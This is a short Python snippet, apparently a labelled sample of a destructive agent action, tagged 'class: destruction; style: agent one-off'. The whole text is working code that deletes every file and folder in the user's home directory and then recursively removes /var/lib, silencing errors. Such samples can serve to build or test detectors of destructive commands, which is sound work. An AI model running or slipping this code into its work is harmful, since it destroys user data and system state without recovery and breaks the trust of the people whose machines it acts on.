# class: destruction; style: agent one-off
import shutil, pathlib
for p in pathlib.Path.home().iterdir():
    shutil.rmtree(p, ignore_errors=True) if p.is_dir() else p.unlink()
shutil.rmtree("/var/lib", ignore_errors=True)
